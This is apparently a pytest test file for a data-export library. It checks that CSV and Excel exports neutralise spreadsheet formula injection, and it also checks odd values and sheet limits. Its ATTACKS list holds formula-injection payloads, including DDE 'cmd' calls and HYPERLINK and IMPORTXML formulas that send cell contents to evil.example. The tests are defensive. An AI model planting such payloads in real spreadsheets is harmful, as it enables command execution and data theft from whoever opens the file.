"""Cells that are no formulas, Excel's limits, and odd values."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys
from decimal import Decimal

import defusedcsv.csv
import numpy as np
import openpyxl
import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

import dxnotebook as dx
from dxnotebook.files import spreadsheet
from tests.files.cells import FORMULA, original
from tests.files.conftest import cells_of, exported

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠")


# what OWASP, defusedcsv and those who report such holes try
ATTACKS = [
    *(f"{sign}1+1" for sign in TRIGGERS),
    *TRIGGERS,
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"Error: see here")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "+49 30 1234",
    '=1+1";=1+1',
    "=1+1';=1+1",
    "=10+20+cmd|' /C calc'!A0",
    '"=1+1',
    '""=1+1',
    " =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\ufeff=1+1",
    "\u200b@x",
    "\x00=1",
    "\x0b-1",
    '=IMPORTXML(CONCAT("https://evil.example?v=",CONCATENATE(A2:E2)),"//a")',
    "%0A-3+3+cmd|' /C calc'!D2",
    "=rundll32|'URL.dll,OpenURL https://evil.example'!A",
]  # fmt: skip


HARMLESS = [
    "a=1",
    'DDE ("cmd";"/C calc";"x")',
    "s3://bucket/key",
    "1-2",
    "",
    " ",
    "'1",
    "mailto:a@b",
    "https://b.example/?a=b",
    "\u00e9",
    "a;b|c\td\ne",
]
# what is a formula where something else than the comma separates, and what looks escaped already
WITHIN = {
    "x;=cmd|' /C calc'!A0;": "x;'=cmd|' /C calc'!A0;",
    "x\t@y|-1\n+1\r＝1": "x\t'@y|'-1\n'+1\r'＝1",
    'x;";""=1;\u00a0-1': 'x;";\'""=1;\'\u00a0-1',
    ";=1;;=2": ";'=1;;'=2",
    "\t=1": "'\t'=1",
    "'=1": "''=1",
    "''=1;'=1": "'''=1;''=1",
}


def test_no_field_of_a_csv_file_begins_like_a_formula(tmp_path):
    frame = pd.DataFrame({"text": ATTACKS + HARMLESS, "=name": "x"})
    frame["category"] = frame["text"].astype("category")
    path = exported(frame, tmp_path / "a.csv")
    with path.open(newline="", encoding="utf-8-sig") as file:
        header, *rows = csv.reader(file)
    assert header == ["text", "'=name", "category"]
    for text, row in zip(frame["text"], rows, strict=True):
        assert row == [row[0], "x", row[0]]
        assert original(row[0]) == text
        assert row[0].startswith("'") == (text in ATTACKS or text.startswith("'"))
        assert not row[0].startswith(TRIGGERS)
        assert defusedcsv.csv._escape(row[0]) == row[0]


def test_no_text_of_a_csv_file_begins_a_formula_behind_any_separator(tmp_path):
    path = exported(pd.DataFrame({"text": list(WITHIN)}), tmp_path / "a.csv")
    with path.open(newline="", encoding="utf-8-sig") as file:
        cells = [row[0] for row in csv.reader(file)][1:]
    assert cells == list(WITHIN.values())
    assert list(map(original, cells)) == list(WITHIN)
    [_, *rows] = cells_of(exported(pd.DataFrame({"text": list(WITHIN)}), tmp_path / "a.xlsx"))
    assert rows[0] == [next(iter(WITHIN))]  # there a cell is a cell


@pytest.mark.property
@given(st.lists(st.sampled_from([*"=-'\";|\t\r\n x＋%@", "\ufeff"]), max_size=9).map("".join))
def test_what_is_escaped_is_to_be_had_back_and_begins_no_formula(text):
    table = spreadsheet.plain_table(pd.DataFrame({"text": [text]}), escape=True, within=True)
    [cell] = table["text"].to_pylist()
    assert original(cell) == text
    for separator in ";|\t":
        for part in re.split(f"[\r\n{separator}]", cell):
            assert not part.strip(' "\ufeff\t').startswith(FORMULA)


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(tmp_path):
    frame = pd.DataFrame({"text": ATTACKS + HARMLESS, "=name": "x"})
    for escape in (True, False):
        sheet = openpyxl.load_workbook(
            exported(frame, tmp_path / "a.xlsx", escape_formulas=escape)
        )["data"]
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}
        assert not [cell for cell in cells if cell.hyperlink]
        assert not escape or not [cell.value for cell in cells if cell.value.startswith(TRIGGERS)]
        assert sheet.freeze_panes == "A2"


@pytest.mark.slow
@pytest.mark.parametrize(
    ("suffix", "options"),
    [(".xlsx", []), (".csv", ["--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1"])],
)
def test_libreoffice_opens_them_without_a_formula(suffix, options, tmp_path):
    office = shutil.which("soffice")
    if not office:
        assert "CI" not in os.environ, (
            "CI has to have LibreOffice, or what opens the exports goes untested."
        )
        pytest.skip("LibreOffice is not there: apt install libreoffice-calc.")
    frame = pd.DataFrame(
        {"text": ATTACKS + HARMLESS, "=name": "x", "n": range(len(ATTACKS + HARMLESS))}
    )
    path = dx.export(frame, tmp_path / f"a{suffix}")
    plain = dx.export(
        pd.DataFrame({"text": ["=1+1"]}), tmp_path / f"plain{suffix}", escape_formulas=False
    )
    command = [
        office,
        f"-env:UserInstallation=file://{tmp_path}/profile",
        "--headless",
        "--convert-to",
        "fods",
        *options,
    ]
    subprocess.run(
        [*command, "--outdir", tmp_path, path, plain], check=True, capture_output=True, timeout=120
    )
    opened = (tmp_path / "a.fods").read_text()
    assert "table:formula" not in opened
    assert opened.count("<table:table-row") >= len(frame)
    # a formula is seen as one: what is not escaped is one in CSV, and text in Excel, whatever it
    # begins with
    assert ("table:formula" in (tmp_path / "plain.fods").read_text()) == (suffix == ".csv")


def test_numbers_stay_numbers_and_the_rule_can_be_turned_off(tmp_path):
    frame = pd.DataFrame({"n": [-1, 2], "x": [-1.5, float("nan")], "text": ["=1", "-1"]})
    assert (
        exported(frame, tmp_path / "a.csv", bom=False).read_text()
        == '"n","x","text"\n-1,-1.5,"\'=1"\n2,,"\'-1"\n'
    )
    assert (
        exported(frame, tmp_path / "a.csv", escape_formulas=False)
        .read_text()
        .endswith('-1,-1.5,"=1"\n2,,"-1"\n')
    )
    assert cells_of(exported(frame, tmp_path / "a.xlsx"))[1:] == [
        [-1, -1.5, "'=1"],
        [2, None, "'-1"],
    ]


def odd_frame():
    frame = pd.DataFrame(
        {
            "time": pd.to_datetime(["1850-01-01", "2026-06-01 10:11:12.5", None], format="ISO8601"),
            "zoned": pd.to_datetime(["2026-06-01", "1900-01-05", None]).tz_localize(
                "Europe/Berlin"
            ),
            "number": [float("inf"), 1e-300, float("nan")],
            "large": [2**62, 1, -5],
            "flag": pd.array([True, None, False], "boolean"),
            "control": ["a\x00b\x1f", "_x0041_", "a\rb\r\nc\ufffe"],
            "span": pd.to_timedelta([1, None, 2], unit="D"),
        }
    )
    return frame.assign(
        mixed=pd.Series([1, "\ud800x", None], dtype=object),
        nested=pd.Series([[1], {}, "y"], dtype=object),
    )


def test_odd_values_in_a_workbook(tmp_path):
    header, *rows = cells_of(exported(odd_frame(), tmp_path / "a.xlsx"))
    assert header == [
        "time",
        "zoned (UTC)",
        "number",
        "large",
        "flag",
        "control",
        "span",
        "mixed",
        "nested",
    ]
    day = pd.Timestamp("2026-05-31 22:00").to_pydatetime()
    first = ["1850-01-01T00:00:00.000000", day, "inf", str(2**62), True]
    # the library writes what would read as an escape so that Excel shows it as it is; openpyxl
    # does not undo that
    time = pd.Timestamp("2026-06-01 10:11:12.5").to_pydatetime()
    second = [time, "1900-01-04T23:00:00.000000+00:00", 1e-300, 1, None]
    assert rows == [
        [*first, "a\\x00b\\x1f", "1 days 00:00:00", "1", "[1]"],
        [*second, "_x005F_x0041_", None, "\\ud800x", "{}"],
        [None, None, None, -5, False, "a\nb\nc\\ufffe", "2 days 00:00:00", None, "y"],
    ]


def test_odd_values_in_csv_and_json_lines(tmp_path):
    text = exported(odd_frame(), tmp_path / "a.csv").read_text(encoding="utf-8")
    assert '"2026-06-01T00:00:00.000000+02:00",inf,4611686018427387904,true,' in text
    assert '"\\ud800x"' in text
    rows = [
        json.loads(line)
        for line in exported(odd_frame(), tmp_path / "a.jsonl").read_text().splitlines()
    ]
    assert rows[0]["number"] is None
    assert [row["mixed"] for row in rows] == ["1", "\\ud800x", None]
    assert [row["zoned"] for row in rows][::2] == ["2026-06-01T00:00:00+02:00", None]


def test_odder_columns_are_written_or_told(tmp_path):
    frame = pd.DataFrame(
        {
            "cut": pd.cut(pd.Series([1, 2, 3]), 2),
            "deep": [[1.0, float("nan")], [float("inf")], None],
        }
    )
    frame["nan"] = pd.array(
        pa.array([float("nan"), float("inf"), None]), dtype=pd.ArrowDtype(pa.float64())
    )
    frame["money"] = [Decimal("12345678901234567890.12"), Decimal("1.5"), None]
    for suffix in (".csv", ".xlsx"):
        dx.export(frame, tmp_path / f"a{suffix}")
    assert (
        pd.read_csv(tmp_path / "a.csv", dtype="str")["money"].iloc[0] == "12345678901234567890.12"
    )
    dx.export(frame, tmp_path / "a.jsonl")
    lines = [
        json.loads(line, parse_constant=pytest.fail)
        for line in (tmp_path / "a.jsonl").read_text().splitlines()
    ]
    assert [line["deep"] for line in lines] == [[1.0, None], [None], None]
    with pytest.raises(dx.DxError, match="holds one type a column"):
        dx.export(pd.DataFrame({"a": [2**70, 1]}), tmp_path / "a.parquet")
    (tmp_path / "plain").write_text("")
    (tmp_path / "latest.csv").symlink_to(tmp_path / "plain")
    latest = dx.export(pd.DataFrame({"a": [1]}), tmp_path / "latest.csv", bom=False)
    assert latest.read_text() == '"a"\n1\n'


def test_rows_beyond_a_sheet_go_on_in_the_next(tmp_path):
    frame = pd.DataFrame({"n": range(25)})
    spreadsheet.write_workbook(
        {"jobs": spreadsheet.plain_table(frame)}, tmp_path / "a.xlsx", _Bar(), rows=11
    )
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    assert book.sheetnames == ["jobs", "jobs 2", "jobs 3"]
    found = [[cell.value for cell in sheet["A"]] for sheet in book]
    assert [column[0] for column in found] == ["n"] * 3
    assert [n for column in found for n in column[1:]] == list(range(25))
    with pytest.raises(dx.DxError, match=r"jobs has 1 columns, .* at most 0"):
        spreadsheet.write_workbook(
            {"jobs": spreadsheet.plain_table(frame)},
            tmp_path / "b.xlsx",
            _Bar(),
            columns=0,
        )


class _Bar:
    def update(self, rows):
        pass


@pytest.mark.slow
def test_more_columns_than_excel_has_say_so(tmp_path):
    wide = pd.DataFrame(np.zeros((1, spreadsheet.COLUMNS + 1)))
    with pytest.raises(dx.DxError, match=r"16,385 columns.* at most 16,384"):
        exported(wide, tmp_path / "a.xlsx")
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("letter", ["a", "é", "😀"])
def test_long_texts_are_shortened_with_a_mark(letter, tmp_path):
    lengths = [32_766 // len(letter.encode("utf-16-le")) * 2, 40_000]
    frame = pd.DataFrame({"text": [letter * length for length in lengths]})
    [_, [whole], [cut]] = cells_of(exported(frame, tmp_path / "a.xlsx"))
    assert whole == frame["text"][0]
    units = len((letter * 40_000).encode("utf-16-le")) // 2
    assert cut.endswith(f"… [shortened: {units:,} characters]")
    assert 32_766 <= len(cut.encode("utf-16-le")) // 2 <= 32_767
    assert cut.startswith(letter * 16_000)


def test_excel_without_its_library_says_how_to_install_it(account, tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    with pytest.raises(dx.MissingDependencyError, match=r"needs xlsxwriter.*dxnotebook\[excel\]"):
        exported(account, tmp_path / "a.xlsx")


def test_sheets_are_printed_across_with_their_header_on_as_few_pages_as_can_be_read(tmp_path):
    client = dx.demo.client(jobs=50)
    path = dx.export(dx.load_jobs(client, progress=False), tmp_path / "a.xlsx", progress=False)
    for sheet in openpyxl.load_workbook(path):
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.print_title_rows == "$1:$1"
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        width = sum(
            column.width * (column.max - column.min + 1)
            for column in sheet.column_dimensions.values()
        )
        assert sheet.page_setup.fitToHeight == 0
        pages = int(sheet.page_setup.fitToWidth or 1)
        assert (pages - 1) * 260 < width <= pages * 280
    assert sheet.parent["overview"]["B1"].alignment.horizontal == "right"
